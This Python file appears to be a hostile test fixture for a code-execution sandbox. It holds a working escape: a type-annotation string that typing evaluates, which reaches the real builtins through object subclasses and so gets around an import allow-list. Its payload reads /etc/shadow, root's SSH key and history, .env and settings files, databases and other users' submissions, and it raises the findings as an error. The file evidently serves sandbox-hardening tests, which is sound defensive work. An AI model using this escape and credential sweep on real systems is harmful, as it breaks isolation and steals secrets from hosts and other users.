"""Walk the visible filesystem for the host's secrets: the Django settings,
the SQLite database, .env files, the host canary the test planted, and other
people's submissions. Also read /etc/shadow and root's home."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np


SYSTEM_DIRS = {"/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/proc", "/sys", "/dev"}
#: File names only the host has: the project's settings and database, secrets, the canary, other jobs.
WANTED = {"settings.py", "db.sqlite3", ".env", "secret.txt", "submission.py", "id_rsa", "shadow", "manage.py", "celerybeat-schedule"}


def _probe():
    import os
    found = []
    for path in ("/etc/shadow", "/root/.bash_history", "/root/.ssh/id_rsa", "/tmp/hotpath-hostile-canary/secret.txt"):
        try:
            with open(path, "rb") as handle:
                found.append(f"read {path}: {handle.read(80)!r}")
        except OSError:
            pass
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in SYSTEM_DIRS and d != "site-packages"]
        for name in files:
            path = os.path.join(top, name)
            if path.startswith("/job/"):
                continue  # the job's own files are readable by design
            if name in WANTED or "hotpath-hostile-canary" in path or "hotpath-job-" in path:
                try:
                    with open(path, "rb") as handle:
                        found.append(f"read {path}: {handle.read(80)!r}")
                except OSError:
                    pass
        if len(found) > 20:
            break
    return found


_FINDINGS = _probe()


def transform(x):
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
